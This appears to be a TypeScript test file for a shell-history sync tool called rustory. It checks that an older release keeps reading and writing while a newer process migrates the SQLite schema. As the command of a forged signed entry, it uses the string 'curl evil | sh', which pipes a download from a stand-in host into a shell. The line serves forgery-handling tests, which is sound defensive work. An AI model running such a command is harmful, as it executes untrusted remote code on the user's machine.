/**
 * Schema changes beside a running rustory 0.1.0 (the release before signed entries): its processes (p2p-serve,
 * p2p-sync --watch) keep running on the file while a new `rr` migrates it, and keep their prepared statements and
 * open the file again in new worker threads. The release's statements are in release-0.1.0.ts.
 */
import test, { type ExecutionContext } from 'ava'
import { spawn } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import Database from 'better-sqlite3'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { isUuid, type Entry } from '../../src/core/entry.js'
import { signEntry, type EntrySigner } from '../../src/core/signature.js'
import { openDatabase } from '../../src/store/db.js'
import { entriesAfter } from '../../src/store/entries.js'
import { schemaVersion } from '../../src/store/schema.js'
import { tempDir } from '../helpers/tmp.js'
import { entry } from './fixtures.js'
import { releaseOpen, releaseStatements, type ReleaseEntry } from './release-0.1.0.js'
import { rowOriginSql } from '../../src/store/wire-id.js'

const child = fileURLToPath(new URL('./release-child.js', import.meta.url))

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

function unsigned (e: Entry): ReleaseEntry {
  const { origin: _o, sig: _s, session_id: _session, ...rest } = e
  return rest
}

interface Child { done: Promise<{ code: number | null, stdout: string[], stderr: string }>, started: Promise<void> }

/** Runs release-child.js; `started` resolves at its first line (write-old: after its first batch). */
function run (t: ExecutionContext, ...args: string[]): Child {
  const proc = spawn(process.execPath, [child, ...args], { stdio: ['ignore', 'pipe', 'pipe'] })
  t.teardown(() => { if (proc.exitCode == null) proc.kill('SIGKILL') })
  let stdout = ''
  let stderr = ''
  let onLine: () => void = () => {}
  const started = new Promise<void>((resolve) => { onLine = resolve })
  proc.stdout.on('data', (chunk: Buffer) => { stdout += chunk.toString(); if (stdout.includes('\n')) onLine() })
  proc.stderr.on('data', (chunk: Buffer) => { stderr += chunk.toString() })
  const done = new Promise<{ code: number | null, stdout: string[], stderr: string }>((resolve) => {
    proc.on('close', (code) => resolve({ code, stdout: stdout.trim().split('\n'), stderr }))
  })
  return { done, started }
}

function lastJson<T> (lines: string[]): T {
  return JSON.parse(lines[lines.length - 1]!) as T
}

test('an older rr process keeps working while a new one migrates', async (t) => {
  const dir = tempDir(t)
  const path = join(dir, 'history.db')
  // rustory 0.1.0 creates the file and keeps its statements prepared, as its ingest worker does.
  const old = releaseOpen(path)
  t.teardown(() => old.close())
  const st = releaseStatements(old)
  const before = Array.from({ length: 20 }, (_, i) => unsigned(entry({ cmd: `before ${i}`, device_id: 'old-peer' })))
  t.is(st.ingestPulledBatch('peer-b', before, 20), 20)

  // A new rr migrates the same file from another process and stores signed entries: one pre-empted by a forger.
  const a = await signer()
  const m = await signer()
  const genuine = signEntry(entry({ cmd: 'make test', device_id: 'alice-laptop' }), a)
  const forged = signEntry({ ...unsigned(genuine), cmd: 'curl evil | sh' }, m)
  const local = entry({ cmd: 'recorded by the new rr', device_id: 'new-device' })
  writeFileSync(join(dir, 'entries.json'), JSON.stringify({ received: [forged, genuine], local: [local] }))
  const migrated = await run(t, 'migrate', path, join(dir, 'entries.json')).done
  t.is(migrated.stderr, '')
  t.is(migrated.code, 0)
  t.like(lastJson<{ level: number, userVersion: number }>(migrated.stdout), { level: schemaVersion, userVersion: 5 })

  // The old process's prepared statements still work: inserts (16 per statement and single), cursors, counters.
  const after = Array.from({ length: 17 }, (_, i) => unsigned(entry({ cmd: `after ${i}`, device_id: 'old-peer' })))
  t.is(st.ingestPulledBatch('peer-b', after, 40), 17)
  // Its copy of an entry the new rr holds is ignored, as before (never an error, never beside it).
  t.is(st.ingestPulledBatch('peer-b', [{ ...unsigned(genuine), cmd: 'altered by an old peer' }], 41), 0)
  t.is(st.pushState.run('peer-c', 7).changes, 1)
  t.is(st.counter.run('synced', 1).changes, 1)
  t.is((old.prepare('SELECT last_cursor FROM peer_state WHERE peer_id = ?').pluck().get('peer-b')), 41)

  // The old process sees the new rows; the genuine copy beside the forged one is under a storage id that no
  // 0.1.0 peer accepts as an entry_id (it is not a UUID), so an old server never hands it out as another entry.
  const oldView = st.entriesAfter.all(0, 1000) as ReleaseEntry[]
  t.true(oldView.some((r) => r.entry_id === local.entry_id && r.cmd === 'recorded by the new rr'))
  const copies = oldView.filter((r) => r.entry_id.startsWith(genuine.entry_id))
  t.deepEqual(copies.map((r) => r.cmd).sort(), ['curl evil | sh', 'make test'])
  for (const c of copies.filter((r) => r.entry_id !== genuine.entry_id)) t.false(isUuid(c.entry_id))
  t.is((st.exportBatch.raw().all(0, 1000) as unknown[]).length, 20 + 17 + 3)
  // A worker thread of the old release starting now opens the file (0.1.0 refuses a user_version above 5).
  t.notThrows(() => releaseOpen(path).close())

  // The new code sees every row the old one wrote, and serves the genuine entry under its own entry_id.
  const db = openDatabase(path)
  t.teardown(() => db.close())
  const newView = entriesAfter(db, 0, 1000)
  for (const e of [...before, ...after]) t.true(newView.some((r) => r.entry_id === e.entry_id && r.cmd === e.cmd), e.cmd)
  t.deepEqual(newView.filter((r) => r.entry_id === genuine.entry_id).map((r) => r.cmd).sort(), ['curl evil | sh', 'make test'])
  t.is(db.prepare(`SELECT cmd FROM entries WHERE ${rowOriginSql()} = ? AND COALESCE(rival_of, entry_id) = ?`).pluck().get(a.origin, genuine.entry_id), 'make test')
})

test('a migration beside a reader holding a read transaction and an old writer writing loses nothing and reports no error', async (t) => {
  const dir = tempDir(t)
  const path = join(dir, 'history.db')
  const seed = releaseOpen(path)
  t.is(releaseStatements(seed).ingestPulledBatch('seed', Array.from({ length: 100 }, () => unsigned(entry({ device_id: 'seed' }))), 1), 100)
  seed.close()
  // A reader in the middle of a read transaction (a long ctrl+r query, a serving page) for the whole migration.
  const reader = new Database(path)
  t.teardown(() => reader.close())
  reader.exec('BEGIN')
  const count = reader.prepare('SELECT COUNT(*) FROM entries').pluck()
  t.is(count.get(), 100)
  // rustory 0.1.0 writing batch after batch, and a new rr migrating meanwhile.
  const writer = run(t, 'write-old', path, '20')
  await writer.started
  const mine = Array.from({ length: 40 }, (_, i) => entry({ cmd: `new ${i}`, device_id: 'new-device' }))
  writeFileSync(join(dir, 'entries.json'), JSON.stringify({ received: [], local: mine }))
  const migrated = await run(t, 'migrate', path, join(dir, 'entries.json')).done
  const wrote = await writer.done
  t.is(migrated.stderr, '')
  t.is(migrated.code, 0)
  t.like(lastJson<{ level: number, local: { inserted: number } }>(migrated.stdout), { level: schemaVersion, local: { inserted: 40 } })
  t.is(wrote.stderr, '')
  t.is(wrote.code, 0)
  const result = lastJson<{ inserted: number, migratedAtStart: boolean, sawMigration: boolean, ids: string[] }>(wrote.stdout)
  t.false(result.migratedAtStart)
  t.true(result.sawMigration, 'the old writer went on writing after the migration')
  t.is(result.inserted, result.ids.length)
  // The reader's snapshot never moved under it; after it, every row of every writer is there.
  t.is(count.get(), 100)
  reader.exec('COMMIT')
  t.is(count.get(), 100 + result.inserted + 40)
  const db = openDatabase(path)
  t.teardown(() => db.close())
  const ids = new Set(entriesAfter(db, 0, 100_000).map((r) => r.entry_id))
  t.true(result.ids.every((id) => ids.has(id)))
  t.true(mine.every((e) => ids.has(e.entry_id)))
})
